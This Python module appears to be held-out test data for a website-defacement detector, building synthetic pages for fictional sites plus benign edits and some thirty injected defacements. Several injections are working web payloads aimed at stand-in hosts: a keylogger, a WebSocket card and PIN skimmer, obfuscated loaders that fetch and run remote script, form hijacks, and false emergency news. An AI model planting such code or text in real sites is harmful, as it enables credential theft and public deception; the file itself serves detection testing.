"""pages_fifth - the fifth set of pages.py: held out. Written with the fourth, run once before the judge was bettered, and then
not before that was done. What fails here is a figure of docs/deface.md, nothing to be mended one by one.
"""
import base64
import re

import pages
from pages_fourth import GTM, Place, anchors, at_end, body, head, paragraphs


# --- layouts ---

def layout_defence(site, day, rng, items):
    cards = "".join(f'<div class="usa-card"><h3 class="usa-card__heading"><a href="/releases/{k}">{h}</a></h3><p>{t}</p><span>{d}</span></div>' for d, h, t, k in items)
    return f"""<!doctype html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title><link rel="stylesheet" href="/core/{day // 14}.css">
<script async src="https://dap.digitalgov.gov/Universal-Federated-Analytics-Min.js?agency=HB"></script></head><body><section class="usa-banner">An official website</section>
<header class="usa-header"><em>{site.org}</em><ul>{anchors(site, '<li><a href="/{n}"><span>{text}</span></a></li>')}</ul></header><main><section class="hero"><h1>{site.about[0]}</h1>
<a class="usa-button" href="/join">{site.links[-1]}</a></section>{cards}<blockquote>{site.about[1]}</blockquote></main><footer><p>{site.foot}</p>
<a href="https://twitter.com/hb">X</a> <a href="https://www.facebook.com/hb">Facebook</a></footer></body></html>"""


def layout_bus(site, day, rng, items):
    rows = "".join(f'<tr bgcolor="{"#eeffee" if n % 2 else "#ffffff"}"><td>{d}</td><td><a href="news/{k}.htm">{h}</a></td></tr>' for n, (d, h, _, k) in enumerate(items))
    ask = "<p><font color=red><b>大雪のため一部の便を運休しています。</b></font></p>" if rng.random() < 0.2 else ""
    return f"""<HTML LANG="ja"><HEAD><META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=Shift_JIS"><TITLE>{site.title}</TITLE></HEAD><BODY>
<TABLE width="800"><TR><TD colspan="2"><IMG src="image/title.jpg" alt="{site.org}"></TD></TR><TR><TD>{anchors(site, '<A href="{n}.htm"><IMG src="image/b{n}.gif" alt="{text}"></A><BR>')}</TD>
<TD>{ask}<P>{site.about[0]}</P><TABLE>{rows}</TABLE><P>{site.about[1]}</P></TD></TR></TABLE><HR><P>{site.foot}</P></BODY></HTML>"""


def layout_daily(site, day, rng, items):
    big = "".join(f'<div class="headline"><a href="https://{site.host}/c/{k}.shtml" target="_blank">{h}</a></div><div class="sum">{t}</div>' for _, h, t, k in items[:2])
    rest = "".join(f'<li><a href="https://{site.host}/c/{k}.shtml">{h}</a> <i>{d}</i></li>' for d, h, _, k in items[2:])
    ads = "".join(f'<script src="https://pos{rng.randrange(30)}.adunion-{rng.choice("xyz")}.example.cn/js/{rng.randrange(999)}.js"></script>' for _ in range(2))
    friends = "".join(f'<a href="https://www.paper{n}.example.cn/">友报{n}</a> ' for n in range(8))
    return f"""<!DOCTYPE html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title><link href="//static.{site.host}/s.css" rel="stylesheet"></head><body>
<div class="nav">{anchors(site, '<a href="/{n}/">{text}</a>')}</div><div class="logo">{site.org}</div>{big}<ul class="list">{rest}</ul>{ads}
<div class="friends">{friends}</div><div class="copy">{paragraphs(site)}{site.foot}</div></body></html>"""


def layout_signin(site, day, rng, items):
    notes = "".join(f"<li><strong>{h}</strong> {t}</li>" for _, h, t, _ in items[:3])
    return f"""<!DOCTYPE html><html dir="{'rtl' if site.lang == 'ar' else 'ltr'}" lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title><script nonce="{rng.randrange(16**12):x}">window.cfg={{"t":{rng.randrange(10**9)}}};</script>
<link rel="stylesheet" href="/ui/{day // 20}.css"></head><body class="login"><img src="/ui/logo.svg" alt="{site.org}"><h1>{site.org}</h1>
<form action="/auth/login" method="post"><label>{site.links[0]}</label><input name="user"><label>{site.links[1]}</label><input name="pin" type="password"><input type="hidden" name="t" value="{rng.randrange(16**20):x}">
<button>{site.links[2]}</button></form><div class="notes"><ul>{notes}</ul></div>{paragraphs(site)}<footer>{anchors(site, '<a href="/h{n}">{text}</a>')} {site.foot}</footer>
<script src="/ui/login.{rng.randrange(16**8):x}.js"></script></body></html>"""


def layout_woo(site, day, rng, items):
    goods = "".join(f'<li class="product"><a href="/product/{k}/"><img src="/wp-content/uploads/p{k % 9}.jpg" alt="{h}"><h2>{h}</h2><span class="price">&pound;{rng.randrange(3, 40)}.50</span></a></li>' for _, h, _, k in items)
    return f"""<!DOCTYPE html><html lang="en-GB"><head><meta charset="UTF-8"><meta name="generator" content="WooCommerce 8.{day // 10}"><title>{site.title}</title>{GTM}
<link rel='stylesheet' href='/wp-content/themes/brew/style.css?ver={day // 10}'><script src="/wp-includes/js/jquery/jquery.min.js"></script><style>.wp-block{{color:#321}}</style></head>
<body class="home woocommerce"><div id="age" style="display:none"><p>Are you over 18?</p></div><header><p class="site-title"><a href="/">{site.org}</a></p><nav>{anchors(site, '<a href="/{n}/">{text}</a>')}</nav></header>
<ul class="products">{goods}</ul><form class="checkout" action="/checkout/" method="post"><input name="billing_email"><input name="card"><button>Pay</button></form>
<div class="wp-block">{paragraphs(site)}</div><footer>{site.foot}</footer><script id="wp-emoji">window._wpemojiSettings={{"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/"}};</script>
<script src="https://chimpstatic.com/mcjs-connected/js/users/9a.js"></script></body></html>"""


def layout_calm(site, day, rng, items):
    """A shrine, a kindergarten: vertical calm, one picture, hardly any news."""
    news = "".join(f"<p class='d'>{d}</p><p>{h}</p>" for d, h, _, _ in items[:2])
    return f"""<!doctype html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title><style>body{{font-family:serif;background:#f8f4e8}}h1{{color:#611}}</style></head>
<body><img src="/honden.jpg" alt=""><h1>{site.org}</h1><ul>{anchors(site, '<li><a href="{n}.html">{text}</a></li>')}</ul><h2>{site.about[0]}</h2><p>{site.about[1]}</p>
<section>{news}</section><p>{site.about[2]}</p><p class="foot">{site.foot}</p></body></html>"""


def layout_movement(site, day, rng, items):
    """A party or a union: demands in large letters, another each week."""
    claim = site.about[2 + day // 7 % 3]
    posts = "".join(f'<article class="elementor-post"><h3>{h}</h3><div>{t}</div><a href="/aktuell/{k}">&raquo;</a></article>' for _, h, t, k in items)
    return f"""<!DOCTYPE html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title><link rel="stylesheet" href="/wp-content/plugins/elementor/{day // 9}.css">{pages.scripts(site)}</head>
<body><header><a href="/">{site.org}</a>{anchors(site, '<a class="m" href="/{n}">{text}</a>')}</header><section class="claim" style="background:#e3000f;color:#fff"><h1>{claim}</h1></section>
<p>{site.about[0]}</p>{posts}<p>{site.about[1]}</p><form action="https://newsletter.cleverreach.com/f/31" method="post"><input name="email"></form><footer>{site.foot}</footer></body></html>"""


def layout_alert(site, day, rng, items):
    """A volcano's observatory: levels in colours, a warning now and then."""
    level = rng.choice([1, 1, 1, 2, 3])
    return f"""<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><meta http-equiv="refresh" content="600"><title>{site.title} レベル{level}</title></head>
<body style="background:{['#fff', '#ffc', '#fcc'][level - 1]}"><h1>{site.org}</h1><h2>噴火警戒レベル{level}</h2><p>{'入山禁止。火口から離れてください。' if level > 2 else site.about[0]}</p>
<img src="/cam/{day}-{rng.randrange(24)}.jpg" alt="火口カメラ"><table>{"".join(f"<tr><td>{d}</td><td>{h}</td><td>{rng.randrange(90)}回</td></tr>" for d, h, _, _ in items)}</table>
<ul>{anchors(site, '<li><a href="/{n}">{text}</a></li>')}</ul><p>{site.about[1]}</p><p>{site.foot}</p></body></html>"""


LAYOUTS = {"defence": layout_defence, "bus": layout_bus, "daily": layout_daily, "signin": layout_signin, "woo": layout_woo, "calm": layout_calm, "movement": layout_movement, "alert": layout_alert}


def sites():
    return [
        Place("defence-en", "en", "www.defence.example.gov", "Department of Coastal Defence", "defence", third=[], pace=0.7, stories=[
            ("Secretary condemns attack on tanker", "The Secretary condemned the attack of {date}. We will defend our ships, and the attackers will pay a price."),
            ("Exercise with allies begins", "{n} ships take part in the exercise that began on {date}."), ("Statement on the war in the straits", "We call on all sides to stop the war and to free the prisoners."),
            ("Veterans' day: we will never forget", "A service was held on {date}. We will never forget those who gave their lives."),
            ("Cyber command stops intrusion", "Hackers tried to enter {n} systems. They were stopped.")],
              about=["Guarding the coast, day and night", "Our service members stand ready to defend the freedom of the seas."],
              links=["Our story", "Newsroom", "Contracts", "Families", "Join us"], foot="This is an official website of a government that does not exist."),
        Place("bus-ja", "ja", "www.yukibus.example.jp", "雪国バス", "bus", charset="shift_jis", third=[], pace=2, stories=[
            ("{date}より冬ダイヤになります", ""), ("高速バスの予約開始", ""), ("回数券の払い戻しについて", ""), ("運転士を{n}名募集しています", ""), ("貸切バスのご案内", "")],
              about=["雪国バスは、雪の日も晴れの日も、皆さまを安全にお運びします。", "定期券は本社および各営業所の窓口でお求めください。"],
              links=["時刻表", "運賃", "高速バス", "貸切", "会社概要"], foot="雪国バス株式会社 本社営業所"),
        Place("daily-zh", "zh", "www.haigangbao.example.cn", "海港日报", "daily", pace=0.25, shown=12, stories=[
            ("市长调研港口建设", "{date},市长到港区调研,强调加快建设。"), ("多国代表谴责战争暴行", "代表们一致谴责暴行,呼吁立即停火。"), ("我市新增{n}家企业", "今年以来新增企业{n}家。"),
            ("警方破获黑客团伙", "警方抓获{n}名嫌疑人,该团伙入侵多家网站。"), ("渔民喜迎丰收", "今年渔获比去年增加百分之{n}。"), ("人民公园菊展开幕", "展览将持续到月底。"), ("股市小幅上涨", "指数上涨{n}点。")],
              about=["本报讯息未经授权不得转载。", "举报电话与投稿邮箱请见关于我们。"], links=["要闻", "国际", "经济", "体育", "评论", "关于我们"], foot="海港日报社 版权所有"),
        Place("bank-ar", "ar", "online.masraf.example.sa", "مصرف المرفأ", "signin", third=[], stories=[
            ("صيانة مجدولة", "ستتوقف الخدمة يوم {date} من الساعة الثانية."), ("احذر من الاحتيال", "لا نطلب كلمة السر عبر الهاتف أبدا."), ("خدمة جديدة", "يمكنك الآن تحويل الأموال خلال {n} ثانية.")],
              about=["يقدم المصرف خدماته لعملائه في جميع مدن المملكة منذ عام 1970.", "للمساعدة يرجى الاتصال بالرقم المجاني في أي وقت."], links=["اسم المستخدم", "كلمة السر", "دخول", "الخصوصية"], foot="مصرف المرفأ شركة مساهمة"),
        Place("bank-de", "de", "konto.volksbank.example.de", "Volksbank Hafen", "signin", third=[], stories=[
            ("Wartung am {date}", "In der Nacht ist die Anmeldung nicht möglich."), ("Vorsicht vor falschen Briefen", "Betrüger verschicken Briefe mit QR-Codes. Scannen Sie diese nicht."), ("Neue App", "Version {n} ist da.")],
              about=["Ihre Bank im Hafen: seit 1889 eine Genossenschaft ihrer Mitglieder.", "Sperr-Notruf: 116 116, rund um die Uhr."], links=["Kennung", "PIN", "Anmelden", "Impressum"], foot="Volksbank Hafen eG"),
        Place("brewery-en", "en", "shop.saltbrew.example.co.uk", "Salt Street Brewery", "woo", pace=4, shown=8, stories=[
            ("Pale Ale {n}", ""), ("Black Death Stout", ""), ("Harbour Lager", ""), ("Pirate Cider", ""), ("Glass with our anchor", "")],
              about=["We brew beer in small kettles on Salt Street, and send it anywhere in the country.", "Orders before noon leave the same day."], links=["Beer", "Gifts", "Tours", "Basket"], foot="Salt Street Brewery. Drink with care."),
        Place("shrine-ja", "ja", "www.hamajinja.example.or.jp", "浜神社", "calm", third=[], pace=9, shown=3, stories=[
            ("例大祭は{date}に斎行いたします", ""), ("七五三のご祈祷を受け付けております", ""), ("御朱印の受付時間について", "")],
              about=["海と里を見守る社", "御祭神は海の神、豊漁と航海の安全をお守りくださいます。", "駐車場は三十台、最寄りの駅から歩いて十分です。"], links=["由緒", "祈祷", "祭事", "交通"], foot="浜神社社務所"),
        Place("union-de", "de", "www.hafenunion.example.de", "Gewerkschaft Hafen", "movement", stories=[
            ("Streik am {date}", "Wir streiken für {n} Euro mehr. Schande über die Bosse!"), ("Nein zum Krieg", "Am {date} gehen wir auf die Straße. Stoppt den Krieg!"), ("Tarifvertrag: {n} Prozent", "Das Ergebnis steht."),
            ("Solidarität mit den Seeleuten", "{n} Seeleute sitzen fest. Freiheit für sie!")],
              about=["Wir sind die Gewerkschaft der Menschen, die den Hafen am Laufen halten.", "Mitglied werden geht in fünf Minuten.", "Gute Arbeit, guter Lohn!", "Schluss mit der Leiharbeit!", "Der Hafen gehört uns allen!"],
              links=["Aktuell", "Tarif", "Jugend", "Mitglied werden"], foot="Gewerkschaft Hafen, Kai 7"),
        Place("volcano-ja", "ja", "www.kazan.example.go.jp", "黒岳火山観測所", "alert", third=[], pace=1, shown=5, stories=[("火山性地震", ""), ("噴煙の高さ{n}0メートル", ""), ("地殻変動の観測", "")],
              about=["火口周辺に異常は認められません。", "観測の結果は毎日午前九時と午後五時に更新します。"], links=["観測データ", "防災", "火口カメラ", "所在地"], foot="黒岳火山観測所"),
        Place("town-ru", "ru", "admin.gorodok.example.ru", "Администрация города Приморье", "calm", pace=2, shown=3, stories=[
            ("{date} отключат горячую воду", ""), ("Субботник в парке", ""), ("Прием граждан {date}", "")],
              about=["Город у моря", "В городе живут двадцать тысяч человек, работают три школы и больница.", "Письма граждан рассматриваются в течение тридцати дней."], links=["Глава", "Документы", "Вакансии", "Контакты"], foot="Администрация города"),
    ]


# --- what webmasters do ---

MORE = {  # a sale or a feast, a notice in red, a changed first sentence, a text in easy English
    "en": ("Happy New Year to all of you!", "IMPORTANT: our telephone lines are down. Use the form.", "Now in our second century, and still at your side"),
    "ja": ("謹賀新年 本年もよろしくお願い申し上げます", "重要: 電話がつながりにくくなっています。", "次の百年も、皆さまとともに"),
    "zh": ("恭祝全市人民新春快乐!", "重要提示:电话线路故障。", "新的一年,继续与您同行"), "ar": ("كل عام وأنتم بخير", "هام: خطوط الهاتف معطلة", "نكبر معكم كل يوم"),
    "de": ("Frohe Weihnachten und ein gutes neues Jahr!", "WICHTIG: Unser Telefon ist gestört.", "Auch im nächsten Jahr für Sie da"), "ru": ("С Новым годом!", "ВАЖНО: телефон не работает.", "Растем вместе с вами")}


def change_feast(site, text, rng):
    return body(text, f'<div style="background:#900;color:#ff0;text-align:center"><h1>{MORE[site.lang][0]}</h1><img src="/img/feast.gif"></div>')


def change_red(site, text, rng):
    return body(text, f'<marquee><font color="red">{MORE[site.lang][1]}</font></marquee>')


def change_first_sentence(site, text, rng):
    return text.replace(site.about[0], MORE[site.lang][2])


def change_cookie_service(site, text, rng):
    return head(text, '<script src="https://cdn.cookielaw.org/scripttemplates/otSDKStub.js" data-domain-script="018f"></script><script>function OptanonWrapper(){}</script>')


def change_form_service(site, text, rng):
    return at_end(text, '<form action="https://docs.google.com/forms/d/e/1FAI/formResponse" method="post"><input name="entry.1"><button>OK</button></form>')


def change_mail_script(site, text, rng):
    """A CDN hides addresses of mail from robots, and adds its own script."""
    return at_end(text, '<a href="/cdn-cgi/l/email-protection" class="__cf_email__" data-cfemail="5a3b383974">[email&#160;protected]</a><script data-cfasync="false" src="/cdn-cgi/scripts/5c5dd728/cloudflare-static/email-decode.min.js"></script>'
                  "<script>(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b){var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={r:'8a',t:'MTc='};var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.getElementsByTagName('head')[0].appendChild(a);\";b.getElementsByTagName('head')[0].appendChild(d)}}var a=document.createElement('iframe');a.height=1;a.width=1;a.style.position='absolute';a.style.visibility='hidden';document.body.appendChild(a);c()})();</script>")


def change_inline_picture(site, text, rng):
    return at_end(text, f'<img src="data:image/png;base64,{base64.b64encode(bytes(range(256))).decode()}" alt="QR"><script>var data=JSON.parse(atob("{base64.b64encode(b"{}").decode()}"));</script>')


def change_mourning_logo(site, text, rng):
    return head(text.replace(site.org, site.org, 1), "<style>body{background:#222!important;color:#ddd!important;filter:grayscale(1)}</style>")


def change_partners(site, text, rng):
    return at_end(text, '<h3>Partners</h3><a href="https://www.unesco.org/">UNESCO</a><a href="https://www.wwf.example.org/">WWF</a><a href="https://museum.example.net/"><img src="/img/m.png"></a>')


CHANGES = {"feast": (change_feast, "changed"), "notice in red": (change_red, "changed"), "first sentence": (change_first_sentence, "changed"), "cookie service": (change_cookie_service, "changed"),
           "form of a service": (change_form_service, "suspicious"), "script of a CDN": (change_mail_script, "changed"), "picture in the page": (change_inline_picture, "changed"),
           "dark mourning": (change_mourning_logo, "changed"), "partners": (change_partners, "changed")}


# --- what strangers do ---

def first_paragraph(text, words):
    return re.sub(r"<(p|div class=\"sum\")([^>]*)>[^<]{8,}</", lambda m: f"<{m.group(1)}{m.group(2)}>{words}</", text, count=1, flags=re.I)


def by(site, en, **others):
    return others.get(site.lang, en)


def deface_minimal(site, text, rng):
    return "<title>0xDEAD</title><h1>0xDEAD</h1><!-- hi zone-h -->"


def deface_manifest(site, text, rng):
    return ("<!DOCTYPE html><html><head><title>Message to the people</title><link href='https://fonts.googleapis.com/css?family=Orbitron' rel='stylesheet'></head><body style='background:#0a0a0a;color:#eee'><div class='box'><img src='https://i.ibb.example.co/q/mask.png'>"
            "<p>Citizens. We are those whom you do not see.</p><p>For as long as your rulers bomb the innocent, none of their machines is safe.</p><p>We do not forgive. Expect us.</p></div><audio src='https://files.example.moe/a.mp3' autoplay loop></audio></body></html>")


def deface_turk(site, text, rng):
    return pages.page_of("Ay Yıldız Tim", ["Vatan size minnettardır! Bu site Ay Yıldız tarafından ele geçirilmiştir.", "Ne mutlu Türküm diyene"], "#e30a17")


def deface_arab(site, text, rng):
    return pages.page_of("تم الاختراق", ["تم اختراق الموقع من قبل صقور الصحراء", "القدس لنا"], "#000", "#0f0") if site.charset == "utf-8" else None


def deface_korean(site, text, rng):
    return pages.page_of("해킹 완료", ["이 사이트는 붉은늑대가 장악했다.", "관리자는 보안을 점검하라."]) if site.charset == "utf-8" else None


def deface_polite_japanese(site, text, rng):
    return pages.page_of("管理者様へのお知らせ", ["貴サイトには重大な脆弱性があります。我々は既に全てのデータを取得しました。", "連絡先: black.lotus@protonmail.example"], "#fff", "#222")


def deface_headline(site, text, rng):
    words = by(site, "The blood of our children is on your hands", ja="侵略者を海に沈めろ", zh="打倒独裁,还我自由", ar="يسقط يسقط حكم العسكر", de="Eure Waffen töten Kinder", ru="Остановите войну, вы убийцы")
    return re.sub(r"(<h[123][^>]*>(?:<a[^>]*>)?|<div class=\"headline\"><a[^>]*>)[^<]+", lambda m: m.group(1) + words, text, count=1)


def deface_paragraph(site, text, rng):
    words = by(site, "This institution covered up the deaths of patients, and its director belongs in prison.", ja="この組織の幹部は長年にわたり賄賂を受け取ってきた犯罪者です。", zh="本单位领导贪污受贿,是人民的罪人。",
               ar="إدارة هذه المؤسسة فاسدة وتسرق أموالكم.", de="Die Leitung dieses Hauses ist korrupt und gehört ins Gefängnis.", ru="Руководство этого учреждения ворует ваши деньги.")
    return first_paragraph(text, words)


def deface_news_fake(site, text, rng):
    """An item put in at the top, as the site writes them, of something that did not happen."""
    words = by(site, "Evacuate now: the dam has broken", ja="戒厳令を発令、外出した者は射殺", zh="银行存款将被全部没收", ar="إعلان حالة الحرب على الجيران", de="Staat ist zahlungsunfähig, Konten gesperrt", ru="Объявлена всеобщая мобилизация")
    for form in (r'<div class="usa-card">.*?</div>', r"<tr bgcolor.*?</tr>", r"<li><a href=\"https.*?</li>", r"<li><strong>.*?</li>", r"<article.*?</article>", r"<p class='d'>.*?</p><p>.*?</p>", r"<tr><td>.*?</tr>"):
        found = re.search(form, text, re.S)
        if found:
            item = re.sub(r">[^<\d\s][^<]{3,}<", f">{words}<", found.group())
            return text[:found.start()] + item + text[found.start():]
    return None


def deface_own_picture(site, text, rng):
    return re.sub(r'<img src="[^"]*"', '<img src="/uploads/2026/05/x.jpg"', text, count=1, flags=re.I) if re.search("<img src=", text, re.I) else None


def deface_org_title(site, text, rng):
    return re.sub(r"(<title>).*?(</title>)", lambda m: m.group(1) + by(site, "Closed by the people", ja="閉鎖されました by 黒蓮", ru="Закрыто народом") + m.group(2), text, count=1, flags=re.S | re.I)


def deface_japanese_keywords(site, text, rng):
    links = "".join(f'<a href="https://brand{n}.example.shop/{n}.html">{w}</a>' for n, w in enumerate(("ルイヴィトン コピー 激安", "スーパーコピー 時計 N級品", "バッグ 偽物 通販", "モンクレール 格安 正規品")))
    return at_end(text, f'<div style="height:0;overflow:hidden">{links}</div>')


def deface_noscript_links(site, text, rng):
    links = "".join(f'<li><a href="https://essay{n}.example.net/">write my essay cheap {n}</a></li>' for n in range(6))
    return body(text, f"<noscript><ul>{links}</ul></noscript>")


def deface_footer_bet(site, text, rng):
    return at_end(text, '<p style="color:#fff;background:#fff"><a href="https://bet.example.icu/">1xbet зеркало</a> <a href="https://vulkan.example.icu/">казино вулкан</a></p>')


def deface_analytics(site, text, rng):
    return head_or_body(text, '<script async src="https://www.google-anaIytics.example.com.de/gtm.js?id=GTM-K7Q2ZZ"></script>')


def head_or_body(text, more):
    return re.sub(r"</head>", lambda m: more + m.group(), text, count=1, flags=re.I)


def deface_loader(site, text, rng):
    return head_or_body(text, "<script>(function(){var u=[104,116,116,112,115,58,47,47,97,112,105,46,101,120,97,109,112,108,101,46,116,111,112,47].map(function(c){return String.fromCharCode(c)}).join('');"
                        "var x=new XMLHttpRequest();x.open('GET',u+'?h='+location.host);x.onload=function(){new Function(x.responseText)()};x.send()})();</script>")


def deface_wp_injection(site, text, rng):
    code = "var s=document.createElement('script');s.src='https://cdn.scriptsplatform.example.top/n.js';document.head.appendChild(s);"
    return head_or_body(text, f"<script>eval(String.fromCharCode({','.join(str(ord(c)) for c in code)}));</script>")


def deface_back_button(site, text, rng):
    return head_or_body(text, "<script>history.pushState(null,'',location.href);window.onpopstate=function(){top.location='https://dating.example.bid/'};document.onclick=function(){window.open('https://dating.example.bid/pop')}</script>")


def deface_domains(site, text, rng):
    return head_or_body(text, "<script>var d=['x','y','z'][new Date().getDay()%3];setTimeout(function(){location=['htt','ps:/','/'+d+'.example.cam'].join('')},1500)</script>")


def deface_framed_page(site, text, rng):
    return f"<html><head><title>{site.title}</title></head><body style='margin:0'><iframe src='https://clone.example.site/' style='border:0;width:100%;height:100vh'></iframe></body></html>"


def deface_key_logger(site, text, rng):
    return at_end(text, "<script>var k='';document.onkeypress=function(e){k+=e.key;if(k.length>20){fetch('https://log.example.space/k',{method:'POST',mode:'no-cors',body:k});k=''}}</script>")


def deface_form_target(site, text, rng):
    return re.sub(r'action="(/[^"]*)"', 'action="https://collect.example.work/in.php"', text, count=1) if 'action="/' in text else None


def deface_pay_overlay(site, text, rng):
    return at_end(text, '<div id="pf" style="position:absolute;top:20%;left:30%;z-index:9999"><form action="https://pay-secure.example.lol/c" method="POST"><input name="cc" placeholder="Card number"><input name="cvv" placeholder="CVV"></form></div>')


def deface_socket_skimmer(site, text, rng):
    return at_end(text, "<script>const ws=new WebSocket('wss://edge.example.sbs/ws');document.addEventListener('input',e=>{if(/card|cc|pass|pin/i.test(e.target.name))ws.send(e.target.name+'='+e.target.value)})</script>")


def deface_group_claim(site, text, rng):
    words = by(site, "Today we took down another portal of our enemies", ja="本日、また一つの敵国のサイトを落としました", ru="Сегодня мы положили еще один портал врага", de="Heute fiel ein weiteres Portal der Feinde")
    return body(text, f'<div class="msg"><p>{words}</p><a href="https://t.me/+AbCdEf123"><b>NoName Legion</b></a></div>')


def deface_camera(site, text, rng):
    return "<html><body style='background:#000;color:#f00'><h2>smile :)</h2><video autoplay id=v></video><script>navigator.mediaDevices.getUserMedia({video:true}).then(function(s){v.srcObject=s})</script><p>I see you.</p></body></html>"


def deface_flag(site, text, rng):
    return "<html><head><style>body{margin:0;height:100vh;background:linear-gradient(#0057b7 50%,#ffd700 50%)}</style></head><body></body></html>"


def deface_css_overlay(site, text, rng):
    return head_or_body(text, "<style>html::after{content:'PWNED';position:fixed;inset:0;background:#000;color:#f00;font:20vw monospace;z-index:99999}</style>")


def deface_whatsapp(site, text, rng):
    """The way to reach the owner is the attacker's."""
    return at_end(text, '<a style="position:fixed;bottom:9px;right:9px" href="https://wa.me/2340000000000">Customer care 24/7: refunds here</a>')


def deface_tag(site, text, rng):
    """A small signature at the end, in no language."""
    return at_end(text, "<center><small>t0uched by ~xXm1ragexX~ // r.i.p. admin</small></center>")


DEFACEMENTS = {"minimal": deface_minimal, "manifest": deface_manifest, "Turkish group": deface_turk, "Arabic group": deface_arab, "Korean": deface_korean, "polite Japanese": deface_polite_japanese,
               "headline": deface_headline, "libel in a paragraph": deface_paragraph, "false news": deface_news_fake, "own picture": deface_own_picture, "title": deface_org_title,
               "Japanese keywords": deface_japanese_keywords, "links in noscript": deface_noscript_links, "white on white": deface_footer_bet, "false analytics": deface_analytics,
               "loader by numbers": deface_loader, "eval of numbers": deface_wp_injection, "back button": deface_back_button, "late, by pieces": deface_domains, "framed copy": deface_framed_page,
               "key logger": deface_key_logger, "form leads elsewhere": deface_form_target, "pay form laid over": deface_pay_overlay, "skimmer, socket": deface_socket_skimmer, "group claims": deface_group_claim,
               "camera": deface_camera, "flag": deface_flag, "overlay by style": deface_css_overlay, "false contact": deface_whatsapp, "signature at the end": deface_tag}
